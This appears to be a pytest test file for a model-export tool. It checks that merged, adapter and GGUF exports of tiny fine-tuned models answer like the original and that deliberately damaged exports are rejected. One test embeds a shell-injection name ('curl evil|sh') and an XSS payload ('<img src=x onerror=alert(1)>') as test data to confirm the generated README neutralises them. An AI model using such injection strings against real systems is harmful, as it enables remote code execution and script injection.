"""Exports of real tiny models: each format of each kind of training answers as it did, and a wrong one is caught."""

import json
import os
import shlex
import shutil
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from export_case import make_adapter, make_base, make_card, make_source, make_whole
from gtft.artifact import Artifact, verify_artifact
from gtft.errors import EvidenceError, GateFailed, GtftError, InputError, UsageError
from gtft.exports import gguf_export, making, merged, verification
from gtft.exports.making import make_export
from gtft.exports.source import Asked, Source, Written, find_source


def keep_silent(doing: str, done: int, total: int) -> None:
    """No progress."""


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("exports")
    make_base(root)
    return root


@pytest.fixture(autouse=True)
def short_answers(monkeypatch: pytest.MonkeyPatch) -> None:
    """Eight tokens of each answer tell a tiny model's export from a wrong one; 32 take four times as long."""
    monkeypatch.setattr(verification, "ANSWER", 8)


@pytest.fixture(scope="module")
def said() -> dict[str, verification.Recorded]:
    return {}


@pytest.fixture(autouse=True)
def asked_once(monkeypatch: pytest.MonkeyPatch, said: dict[str, verification.Recorded]) -> None:
    """The adapter answers the same each time: what it said is kept over the tests."""

    def record(asked: Any, prompts: Any, base: Any) -> verification.Recorded:
        key = asked._loaded.adapter
        if key not in said:
            said[key] = verification.Recorded(asked, prompts, base)
        return said[key]

    monkeypatch.setattr(making, "Recorded", record)


@pytest.fixture(scope="module")
def adapter(workspace: Path) -> Artifact:
    return make_adapter(workspace, workspace / "bases" / "tiny")


def export(workspace: Path, adapter: Artifact, form: str, **asked: Any) -> Artifact:
    source = make_source(workspace, adapter)
    return make_export(source, Asked(form, **asked), workspace / "artifacts", keep_silent)


def read_summary(made: Artifact) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads((made.path / "summary.json").read_text())
    return doc


def list_exports(workspace: Path) -> list[str]:
    return sorted(p.name for p in (workspace / "artifacts").glob("*export*"))


@pytest.mark.parametrize(("dtype", "size"), [("f32", 4), ("bf16", 2)])
def test_merged_answers_as_the_adapter_did(
    workspace: Path, adapter: Artifact, dtype: str, size: int
) -> None:
    from transformers import AutoModelForCausalLM

    from gtft.weights import count_parameters

    made = verify_artifact(export(workspace, adapter, "merged", dtype=dtype).path, kind="export")
    told = read_summary(made)
    assert (told["format"], told["dtype"], told["verified"]) == ("merged", dtype, True)
    assert told["greedy_prompts"] >= 12
    assert told["compared_tokens"] >= told["greedy_prompts"]
    assert told["kl_mean"] <= told["limit"]["kl_mean"]
    assert made.parents == (adapter.id,)
    config = json.loads((made.path / "config.json").read_text())
    assert "quantization_config" not in config
    weights = made.path / "model.safetensors"
    assert weights.stat().st_size == pytest.approx(count_parameters(made.path) * size, rel=0.05)
    model = AutoModelForCausalLM.from_pretrained(made.path, dtype="auto")
    assert model.dtype.itemsize == size


def test_the_same_export_is_the_same_artifact(workspace: Path, adapter: Artifact) -> None:
    first = export(workspace, adapter, "merged", dtype="f32")
    shutil.rmtree(first.path)
    assert export(workspace, adapter, "merged", dtype="f32").id == first.id


def test_an_adapter_folder_is_what_plain_peft_loads(workspace: Path, adapter: Artifact) -> None:
    from peft import PeftModel
    from transformers import AutoModelForCausalLM, AutoTokenizer

    made = export(workspace, adapter, "adapter")
    told = read_summary(made)
    assert (told["kl_mean"], told["greedy_equal"]) == (0.0, told["greedy_prompts"])
    for path in made.path.rglob("*.json"):
        assert str(workspace) not in path.read_text()
    config = json.loads((made.path / "adapter_config.json").read_text())
    assert config["base_model_name_or_path"] == "tiny"
    assert "path" not in json.loads((made.path / "base.json").read_text())
    assert AutoTokenizer.from_pretrained(made.path).chat_template
    base = AutoModelForCausalLM.from_pretrained(workspace / "bases" / "tiny")
    loaded = PeftModel.from_pretrained(base, made.path)
    assert loaded.peft_config["default"].r == 4


@pytest.mark.parametrize(
    "lora",
    [
        {"use_dora": True},
        {"use_rslora": True, "lora_alpha": 4},
        {"alpha_pattern": {"q_proj": 32}, "rank_pattern": {"v_proj": 2}},
    ],
    ids=lambda v: next(iter(v)),
)
def test_merged_carries_every_kind_of_lora(workspace: Path, lora: dict[str, Any]) -> None:
    special = make_adapter(workspace, workspace / "bases" / "tiny", seed=11, **lora)
    told = read_summary(export(workspace, special, "merged", dtype="f32"))
    assert told["verified"]
    assert told["kl_max"] < 0.05


def test_a_base_that_was_not_quantised_is_merged_as_it_is(workspace: Path) -> None:
    plain = make_adapter(workspace, workspace / "bases" / "tiny", stored="none")
    told = read_summary(export(workspace, plain, "merged", dtype="f32"))
    assert told["kl_max"] < 1e-5
    assert "as stored" in told["notes"][0]


def test_a_task_on_top_of_a_role_is_exported_with_it(workspace: Path, adapter: Artifact) -> None:
    from peft import PeftModel
    from transformers import AutoModelForCausalLM

    task = make_adapter(workspace, workspace / "bases" / "tiny", on=adapter, seed=21)
    assert read_summary(export(workspace, task, "merged", dtype="f32"))["verified"]
    made = export(workspace, task, "adapter")
    told = read_summary(made)
    assert told["kl_max"] == 0.0
    assert any("role first" in note for note in told["notes"])
    base = AutoModelForCausalLM.from_pretrained(workspace / "bases" / "tiny")
    model = PeftModel.from_pretrained(base, made.path / "role", "role")
    model.load_adapter(made.path / "task", "task")
    assert set(model.peft_config) == {"role", "task"}
    with pytest.raises(UsageError, match="lora-gguf cannot carry") as e:
        export(workspace, task, "lora-gguf")
    assert "--format gguf" in e.value.fix


def test_a_full_training_is_exported_whole_and_refused_as_an_adapter(workspace: Path) -> None:
    whole = make_whole(workspace, workspace / "bases" / "tiny")
    told = read_summary(export(workspace, whole, "merged", dtype="f32"))
    assert told["verified"]
    assert told["kl_max"] < 1e-5
    with pytest.raises(UsageError, match="full training") as e:
        export(workspace, whole, "adapter")
    assert "--format merged" in e.value.fix


def test_the_readme_is_the_card_with_how_to_run_it(workspace: Path, adapter: Artifact) -> None:
    source = make_source(workspace, adapter, make_card(workspace))
    made = make_export(
        source, Asked("merged", "f32", verify=False), workspace / "artifacts", keep_silent
    )
    text = (made.path / "README.md").read_text()
    assert text.startswith("---\nlanguage: en\nlibrary_name: transformers\nlicense: mit\n---\n")
    assert "Licence: mit." in text
    for program in ("vLLM", "transformers", "llama.cpp"):
        assert f"\n{program}:\n" in text
    assert "not verified" in text
    assert (made.path / "plots" / "loss.png").is_file()
    assert read_summary(made)["verified"] is False
    assert read_summary(made)["kl_mean"] is None


def test_nothing_that_a_card_or_a_base_is_called_becomes_markup_or_a_command(
    workspace: Path, adapter: Artifact
) -> None:
    source = make_source(workspace, adapter)
    name = 'q"; curl evil|sh #'
    source = replace(
        source,
        licence="mit\n\n# Verified by the Hub\n<img src=x onerror=alert(1)>",
        record=replace(source.record, name=name),
    )
    made = make_export(source, Asked("adapter", verify=False), workspace / "artifacts", keep_silent)
    lines = (made.path / "README.md").read_text().splitlines()
    assert [x for x in lines if x.startswith("# ")] == ["# witness-1"]
    assert not any("<img" in x.replace("\\<", "") for x in lines)
    (served,) = [x for x in lines if x.startswith("vllm serve ")]
    assert shlex.split(served)[2:4] == [name, "--enable-lora"]


@pytest.mark.parametrize("form", ["merged", "gguf"])
@pytest.mark.parametrize("lora", [{}, {"use_dora": True}], ids=["lora", "dora"])
def test_an_export_is_the_same_however_much_memory_there_was(
    workspace: Path, monkeypatch: pytest.MonkeyPatch, form: str, lora: dict[str, Any]
) -> None:
    made = make_adapter(workspace, workspace / "bases" / "tiny", seed=41, **lora)
    ids = set()
    for width in ("f32", "bf16"):
        monkeypatch.setattr(merged, "choose_width", lambda source, dtype, width=width: width)
        ids.add(export(workspace, made, form, verify=False).id)
    assert len(ids) == 1


def test_what_gguf_is_made_from_takes_the_disk_that_was_asked_for(
    workspace: Path, adapter: Artifact, monkeypatch: pytest.MonkeyPatch
) -> None:
    from gtft.weights import count_parameters

    write, sizes = gguf_export.write_gguf, []

    def measure(merged: Path, out: Path, **given: Any) -> None:
        sizes.append((merged / "model.safetensors").stat().st_size / count_parameters(merged))
        write(merged, out, **given)

    monkeypatch.setattr(gguf_export, "write_gguf", measure)
    told = read_summary(export(workspace, adapter, "gguf", verify=False))
    assert any("rounded to bfloat16" in note for note in told["notes"])
    assert sizes == [pytest.approx(2.0, rel=0.05)]


# -- what is wrong is caught


def test_an_adapter_or_a_card_that_is_not_the_models_is_refused(
    workspace: Path, adapter: Artifact
) -> None:
    card = make_card(workspace)
    given: dict[str, Any] = {
        "workspace": workspace,
        "root": workspace,
        "artifacts": workspace / "artifacts",
        "card": card,
    }
    expected = {"adapter_id": adapter.id, "card_id": verify_artifact(card).id}
    found = find_source("witness-1", adapter.path, **given, **expected)
    assert found.card is not None
    for name in expected:
        with pytest.raises(EvidenceError, match=r"is .*, not "):
            find_source(
                "witness-1", adapter.path, **given, **{**expected, name: "sha256:" + "0" * 64}
            )


@contextmanager
def spoiling(
    monkeypatch: pytest.MonkeyPatch, spoil: Callable[[Path, Source], None]
) -> Iterator[None]:
    """A writer of merged models that then damages what it wrote."""

    def write(folder: Path, source: Source, asked: Asked, say: Any) -> Written:
        written = merged.write_merged(folder, source, asked, say)
        spoil(folder, source)
        return written

    with monkeypatch.context() as m:
        m.setattr(making, "_find_writer", lambda form: write)
        yield


def change_tensors(folder: Path, change: Callable[[str, Any], Any]) -> None:
    from safetensors.torch import load_file, save_file

    path = folder / "model.safetensors"
    found = {name: change(name, t).contiguous() for name, t in load_file(path).items()}
    save_file(found, path, metadata={"format": "pt"})


def wrong_scale(folder: Path, source: Source) -> None:
    """As a converter that leaves the scale (alpha / r = 2) out."""
    import torch
    from peft import PeftModel

    model = merged._load_wide(source.base, source, torch.float32)
    model = PeftModel.from_pretrained(model, source.adapter.path)
    for module in model.modules():
        if isinstance(getattr(module, "scaling", None), dict):
            module.scaling["default"] = 1.0
    model.merge_and_unload().save_pretrained(folder)


def forgotten_adapter(folder: Path, source: Source) -> None:
    import torch

    merged._load_wide(source.base, source, torch.float32).save_pretrained(folder)


def empty_layer(folder: Path, _source: Source) -> None:
    change_tensors(folder, lambda n, t: t * 0 if n == "model.layers.1.mlp.down_proj.weight" else t)


def swapped_layers(folder: Path, _source: Source) -> None:
    from safetensors.torch import load_file

    found = load_file(folder / "model.safetensors")
    one, two = (f"model.layers.{n}.self_attn.q_proj.weight" for n in (0, 1))
    change_tensors(folder, lambda n, t: found[two] if n == one else found[one] if n == two else t)


def not_a_number(folder: Path, _source: Source) -> None:
    change_tensors(folder, lambda n, t: t * float("nan") if "layers.0.mlp.up" in n else t)


def wrong_template(folder: Path, _source: Source) -> None:
    path = folder / "chat_template.jinja"
    assert path.is_file()
    path.write_text("{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}")


def another_tokenizer(folder: Path, _source: Source) -> None:
    from evals_case import TEXT
    from gtft.training.nano_tokenizer import train_tokenizer

    train_tokenizer([*TEXT, "zebra quagga okapi " * 9], 400, 1024).save_pretrained(folder)


def wrong_end(folder: Path, _source: Source) -> None:
    """As a converter that takes the base's end of text for the end of a turn."""
    rewrite(folder / "generation_config.json", eos_token_id=7)


def template_of_other_tools(folder: Path, _source: Source) -> None:
    """Which none of the prompts would tell."""
    path = folder / "chat_template.jinja"
    path.write_text(path.read_text() + "{% if documents %}x{% endif %}")


def no_tokenizer(folder: Path, _source: Source) -> None:
    (folder / "tokenizer.json").unlink()


def rewrite(path: Path, **changes: Any) -> None:
    path.write_text(json.dumps({**json.loads(path.read_text()), **changes}))


@pytest.mark.parametrize(
    ("spoil", "about"),
    [
        (wrong_end, "its answers do not end at '<|"),
        (template_of_other_tools, "its chat template is another one"),
        (wrong_scale, "it starts at answer"),
        (forgotten_adapter, "it starts at answer"),
        (empty_layer, "it starts at answer"),
        (swapped_layers, "it starts at answer"),
        (not_a_number, "not numbers"),
        (wrong_template, "it starts at prompt"),
        (another_tokenizer, "it starts at prompt"),
    ],
    ids=lambda v: getattr(v, "__name__", ""),
)
def test_a_wrong_export_is_caught_and_leaves_nothing(
    workspace: Path,
    adapter: Artifact,
    monkeypatch: pytest.MonkeyPatch,
    spoil: Callable[[Path, Source], None],
    about: str,
) -> None:
    before = list_exports(workspace)
    with spoiling(monkeypatch, spoil), pytest.raises(GateFailed) as e:
        export(workspace, adapter, "merged", dtype="f32")
    assert about in e.value.why
    assert list_exports(workspace) == before


def test_an_export_without_its_tokenizer_is_refused(
    workspace: Path, adapter: Artifact, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = list_exports(workspace)
    with (
        spoiling(monkeypatch, no_tokenizer),
        pytest.raises((GtftError, ValueError, OSError), match="tokenizer"),
    ):
        export(workspace, adapter, "merged", dtype="f32")
    assert list_exports(workspace) == before


def test_a_merged_base_of_others_ends_where_the_adapter_does_and_names_no_code_or_path(
    workspace: Path, tmp_path: Path
) -> None:
    """Its own files name another end, ignored values for sampling, and code; and it holds its weights twice."""
    shutil.copytree(workspace / "bases", tmp_path / "bases")
    base = tmp_path / "bases" / "tiny"
    rewrite(base / "generation_config.json", eos_token_id=7, temperature=0.6, top_p=0.9)
    rewrite(base / "config.json", auto_map={"AutoModelForCausalLM": "modeling.Tiny"})
    (base / "pytorch_model.bin").write_bytes(b"PK\x03\x04")
    made = export(tmp_path, make_adapter(tmp_path, base, seed=31), "merged", dtype="f32")
    told = json.loads((made.path / "generation_config.json").read_text())
    tokenizer = json.loads((made.path / "tokenizer_config.json").read_text())
    ids = {v: int(k) for k, v in read_tokens(made.path).items()}
    assert ids[tokenizer["eos_token"]] in told["eos_token_id"]
    assert 7 in told["eos_token_id"]
    assert "temperature" not in told
    assert "auto_map" not in json.loads((made.path / "config.json").read_text())
    for path in (p for p in made.path.rglob("*") if p.is_file()):
        assert str(tmp_path).encode() not in path.read_bytes()


def read_tokens(folder: Path) -> dict[str, str]:
    doc = json.loads((folder / "tokenizer.json").read_text())
    return {str(t["id"]): t["content"] for t in doc["added_tokens"]}


def test_a_truncated_export_is_refused_before_it_is_loaded(
    workspace: Path, adapter: Artifact, monkeypatch: pytest.MonkeyPatch
) -> None:
    def truncate(folder: Path, _source: Source) -> None:
        path = folder / "model.safetensors"
        os.truncate(path, path.stat().st_size - 64)

    before = list_exports(workspace)
    with spoiling(monkeypatch, truncate), pytest.raises(EvidenceError, match=r"model\.safetensors"):
        export(workspace, adapter, "merged", dtype="f32")
    assert list_exports(workspace) == before


def test_a_merge_without_room_is_refused_with_figures(
    workspace: Path, adapter: Artifact, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = make_source(workspace, adapter)
    monkeypatch.setattr(merged, "count_parameters", lambda folder: 1_000_000_000)
    monkeypatch.setattr(merged, "measure_stored", lambda folder: 2.0)
    for free, dtype, width in ((8e9, "bf16", "f32"), (4e9, "bf16", "bf16"), (8e9, "f32", "f32")):
        monkeypatch.setattr(merged, "measure_free", lambda free=free: int(free))
        assert merged.choose_width(source, dtype) == width
    for free, dtype in ((4e9, "f32"), (2e9, "bf16")):
        monkeypatch.setattr(merged, "measure_free", lambda free=free: int(free))
        with pytest.raises(InputError, match=r"GB of memory; .* GB are free") as e:
            merged.choose_width(source, dtype)
        assert "--format adapter" in e.value.fix
    # Held as stored until each layer is merged.
    monkeypatch.setattr(merged, "measure_stored", lambda folder: 4.0)
    monkeypatch.setattr(merged, "measure_free", lambda: int(4e9))
    with pytest.raises(InputError, match=r"needs about 5\.2 GB"):
        merged.choose_width(source, "bf16")


def test_half_the_memory_merges_in_bfloat16_and_still_answers_alike(
    workspace: Path, adapter: Artifact, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(merged, "choose_width", lambda source, dtype: "bf16")
    told = read_summary(export(workspace, adapter, "merged", dtype="bf16"))
    assert "bfloat16" in told["notes"][0]


def test_a_hostile_adapter_or_base_is_refused_before_loading(
    workspace: Path, adapter: Artifact, tmp_path: Path
) -> None:
    copy = tmp_path / "ws"
    shutil.copytree(workspace / "bases", copy / "bases")
    with_code = make_adapter(copy, copy / "bases" / "tiny")
    (copy / "bases" / "tiny" / "weights.pkl").write_bytes(b"")
    with pytest.raises(EvidenceError, match=r"weights\.pkl"):
        make_source(copy, with_code)
    source = replace(make_source(workspace, adapter), adapter=adapter)
    hostile = tmp_path / "hostile"
    shutil.copytree(adapter.path, hostile)
    config = json.loads((hostile / "adapter_config.json").read_text())
    (hostile / "adapter_config.json").write_text(json.dumps({**config, "r": 10**9}))
    with pytest.raises(GtftError, match=r"adapter_config\.json"):
        make_export(
            replace(source, adapter=replace(adapter, path=hostile)),
            Asked("merged", "f32"),
            workspace / "artifacts",
            keep_silent,
        )
